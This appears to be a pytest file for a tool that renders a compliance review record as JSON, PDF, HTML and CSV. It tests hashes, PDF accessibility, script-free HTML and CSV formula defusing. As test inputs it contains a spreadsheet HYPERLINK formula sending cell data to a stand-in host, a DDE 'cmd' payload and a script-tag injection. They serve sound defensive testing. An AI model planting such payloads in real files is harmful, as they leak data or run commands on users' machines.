"""The report says the same whatever it is written as, to people with and without eyes, and to machines."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from collections.abc import Iterable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import html5lib  # type: ignore[import-untyped]  # it brings no types
import jsonschema  # type: ignore[import-untyped]  # it brings no types
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

from router.core.review import Record
from router.reports import chart, pdf, review
from tests.reviews import sample

SCHEMA = Path(__file__).resolve().parents[2] / "docs/schemas/review.schema.json"
FORMULA = re.compile(r"^[\s ]*[=+\-@\t\r|%]")


@pytest.fixture(scope="module")
def record() -> Record:
    return sample.record()


@pytest.fixture(scope="module")
def reader(record: Record) -> PdfReader:
    return PdfReader(io.BytesIO(review.render(record, "pdf")))


@pytest.fixture(scope="module")
def pages(reader: PdfReader) -> list[str]:
    return [page.extract_text() for page in reader.pages]


@pytest.fixture(scope="module")
def text(pages: list[str]) -> str:
    return words(pages)


def words(pages: Iterable[str]) -> str:
    """All text of a PDF, without where its lines end."""
    return " ".join(" ".join(pages).replace("\u200b", "").split())


def printed(record: Record) -> str:
    """All text of the record's PDF."""
    return words(page.extract_text() for page in PdfReader(io.BytesIO(review.render(record, "pdf"))).pages)


def rows(record: Record) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(review.render(record, "csv").decode(), newline="")))


# --- one hash ---


def test_all_formats_name_one_hash_and_it_is_the_records(record: Record, text: str) -> None:
    whole = json.loads(review.render(record, "json"))
    alone = json.dumps(whole["record"], sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    digest = hashlib.sha256(alone).hexdigest()
    assert whole["sha256"] == digest == review.digest(record)
    assert digest in text.replace(" ", "")
    assert digest in review.render(record, "html").decode()
    assert {row["record_sha256"] for row in rows(record)} == {digest}


def test_whatever_changes_in_the_record_changes_the_hash(record: Record) -> None:
    (first, *rest) = record.decisions
    other = replace(record, decisions=(replace(first, reason="another reason"), *rest))
    assert review.digest(other) != review.digest(record)


def test_a_record_survives_its_canonical_form(record: Record) -> None:
    text = json.dumps(review.plain(record))
    assert review.load(text) == record


def test_the_same_record_gives_the_same_bytes(record: Record) -> None:
    for form in review.FORMATS:
        assert review.render(record, form) == review.render(record, form), form


# --- JSON ---


def test_the_published_schema_is_what_the_code_writes(record: Record) -> None:
    published = json.loads(SCHEMA.read_text(encoding="utf-8"))
    assert published == review.schema(), "write it again: see docs/reviews.md"
    jsonschema.Draft202012Validator.check_schema(published)
    jsonschema.validate(json.loads(review.render(record, "json")), published)


def test_the_record_holds_no_number_that_another_language_would_read_differently(record: Record) -> None:
    def kinds(value: Any) -> set[type]:  # noqa: ANN401 - JSON
        if isinstance(value, dict):
            return set().union(*map(kinds, value.values())) if value else set()
        if isinstance(value, list):
            return set().union(*map(kinds, value)) if value else set()
        return {type(value)}

    assert kinds(json.loads(review.render(record, "json"))) <= {str, int, bool, type(None)}


# --- PDF ---


def test_the_pdf_is_tagged_named_and_in_a_language(reader: PdfReader) -> None:
    root: Any = reader.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"]
    assert root["/StructTreeRoot"]["/K"]
    assert root["/Lang"].lower().startswith("en")
    assert root["/ViewerPreferences"]["/DisplayDocTitle"]
    assert reader.metadata is not None
    assert reader.metadata.title == "Quarterly review of plaintext opt-ins, Q4\u00a02026"
    assert reader.xmp_metadata is not None
    assert "pdfuaid" in reader.xmp_metadata.stream.get_data().decode()


def structure(node: Any, found: list[Any]) -> list[Any]:  # noqa: ANN401 - pypdf's objects
    """Every element of the structure tree."""
    node = node.get_object() if hasattr(node, "get_object") else node
    if isinstance(node, list):
        for each in node:
            structure(each, found)
    elif isinstance(node, dict):
        if "/S" in node:
            found.append(node)
        if "/K" in node:
            structure(node["/K"], found)
    return found


def test_tables_have_headings_and_drawings_have_words(reader: PdfReader) -> None:
    root: Any = reader.trailer["/Root"]
    elements = structure(root["/StructTreeRoot"]["/K"], [])
    kinds = [each["/S"] for each in elements]
    assert kinds.count("/Table") >= 6
    assert kinds.count("/TH") >= kinds.count("/Table") * 2
    assert {"/H1", "/H2"} <= set(kinds)
    figures = [each for each in elements if each["/S"] == "/Figure"]
    assert len(figures) == 4
    assert all("Column chart." in each["/Alt"] for each in figures)


def test_every_section_has_a_bookmark_and_every_page_a_number(reader: PdfReader, pages: list[str]) -> None:
    def titles(outline: Any) -> list[str]:  # noqa: ANN401 - nested lists of destinations
        return [title for each in outline for title in (titles(each) if isinstance(each, list) else [str(each.title)])]

    found = titles(reader.outline)
    assert [title for title in found if not title.startswith("No. ")] == [
        "Summary", "Population", "Opt-ins and decisions", "The opt-ins one by one", "Exceptions", "Changes",
        "Business associate agreements", "Kill switch and break-glass", "Denials", "Method", "Signatures", "Glossary",
    ]  # fmt: skip
    assert len([title for title in found if title.startswith("No. ")]) == len(sample.ITEMS)
    for number, page in enumerate(pages, 1):
        assert f"Page {number} of {len(pages)}" in page


def test_fonts_are_embedded(reader: PdfReader) -> None:
    found = [
        each.get_object()["/FontDescriptor"].keys()
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()  # type: ignore[index]  # pypdf types a value as any object
        for each in font.get_object().get("/DescendantFonts", [font.get_object()])
    ]
    assert found
    assert all({"/FontFile", "/FontFile2", "/FontFile3"} & keys for keys in found)


def test_the_pdf_tells_what_an_auditor_asks_for(text: str) -> None:
    for expected in (
        "3 carried over + 11 new − 4 ended = 10 active at the cut-off",
        "Single custody",
        "Break-glass was used",
        "Agreement not in force",
        "No independent reviewer",
        "Undecided at the due date",
        "Nothing was sent in six months.",
        "mapping is mended",
        "optin.approve",
        "45 CFR 164.312(b)",
        "To the best of my knowledge the population is complete",
    ):
        assert expected in text, expected
    assert not re.search(r"de-identif|anonymi[sz]", text, re.IGNORECASE)


def test_what_the_fonts_cannot_draw_is_written_by_its_number(record: Record) -> None:
    odd = replace(record.snapshot.items[0], purpose="字 🙂 \u200b ̈ \ufffd \x07 Ω Ж é ≤")
    assert "{U+5B57} {U+1F642} {U+200B}" in printed(sample.record(sample.snapshot((odd,))))


def test_every_character_that_is_drawn_has_a_glyph() -> None:
    drawn = "".join(chr(code) for code in range(0x20, 0x2300) if chr(code) == pdf.drawable(chr(code)))
    assert len(drawn) > 900
    made = replace(review.document(sample.record(sample.snapshot(()))), foreword=drawn)
    assert pdf.render(made).startswith(b"%PDF-")


def test_text_of_a_report_is_never_markup(record: Record) -> None:
    nasty = '#panic("x") $x^2$ *b* _i_ `c` <label> @ref = h // c [#pagebreak()] \\ #{1+1} <script>alert(1)</script>'
    odd = replace(record.snapshot.items[0], purpose=nasty)
    made = sample.record(sample.snapshot((odd,)))
    text = printed(made)
    assert '#panic("x") $x^2$ *b* _i_ `c` <label>' in text
    assert "<script>alert" not in review.render(made, "html").decode()


# --- HTML ---


def test_the_html_stands_alone_without_script(record: Record) -> None:
    text = review.render(record, "html").decode()
    html5lib.HTMLParser(strict=True).parse(text)
    seen: list[tuple[str, dict[str, str | None]]] = []

    class Look(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            seen.append((tag, dict(attrs)))

    Look().feed(text)
    tags = {tag for tag, _ in seen}
    assert not tags & {"script", "iframe", "object", "embed", "link", "img", "form", "base"}
    fetched = [value for _, attrs in seen for name, value in attrs.items() if name in {"src", "href"} and value]
    assert all(value.startswith("#section-") for value in fetched)
    assert not [name for _, attrs in seen for name in attrs if name.startswith("on")]
    assert "@media print" in text
    assert "url(" not in text
    assert dict(seen)["html"] == {"lang": "en"}


def test_pdf_and_html_show_the_same_words(record: Record, text: str) -> None:
    shown = re.sub(r"<(style|svg).*?</\1>", " ", review.render(record, "html").decode(), flags=re.DOTALL)
    plain = set(re.findall(r"[A-Za-z]{4,}", re.sub(r"<[^>]+>", " ", shown)))
    printed = set(re.findall(r"[A-Za-z]{4,}", text.replace("- ", "-")))
    assert plain - printed <= {"quot", "nbsp", "Contents"}


# --- CSV ---


def test_the_csv_has_a_line_an_opt_in(record: Record) -> None:
    found = rows(record)
    assert [row["optin_id"] for row in found] == [item.optin_id for item in record.snapshot.items]
    assert {row["decision"] for row in found} == {"keep", "modify", "revoke", "suspend", ""}
    assert rows(sample.record(sample.snapshot(())))[0]["record_sha256"], "an empty review has its hash too"


@given(
    st.text(st.characters(codec="utf-8"), max_size=30), st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "＝"])
)
def test_no_cell_is_a_formula(text: str, start: str) -> None:
    cell = review.defused(start + text)
    assert cell == "'" + start + text
    assert not FORMULA.match(cell)


@given(st.text(st.characters(codec="utf-8"), max_size=30))
def test_a_cell_is_a_formula_or_left_as_it_is(text: str) -> None:
    cell = review.defused(text)
    assert cell in {text, "'" + text}
    assert not FORMULA.match(cell)


def test_formulas_in_every_field_of_an_item_reach_no_spreadsheet(record: Record) -> None:
    (first, *rest) = record.snapshot.items
    attack = '=HYPERLINK("http://x.test/?"&A1,"click")'
    bad = replace(
        first,
        channel=attack, vendor=attack, destination=attack, purpose=attack, baa=attack, requester=attack,
        approver=attack, ended_because=attack, types=("=cmd|' /C calc'!A0",),
    )  # fmt: skip
    made = sample.record(replace(record.snapshot, items=(bad, *rest)))
    made = replace(made, decisions=tuple(replace(each, reason="\t=1+1", effect="@SUM(1)") for each in made.decisions))
    assert not [cell for row in rows(made) for cell in row.values() if FORMULA.match(cell)]
    assert rows(made)[0]["purpose"] == "'" + attack


# --- charts ---


@given(st.integers(0, 10**9))
def test_a_scale_holds_its_values_and_can_be_read(most: int) -> None:
    top, step = chart.scale(most)
    assert most <= top
    assert top % step == 0
    assert 2 <= top // step <= 5
    assert str(step).strip("0") in {"1", "2", "5"}


@given(st.integers(0, 10**12))
def test_a_number_over_a_column_is_short(value: int) -> None:
    assert len(chart.short(value)) <= 7
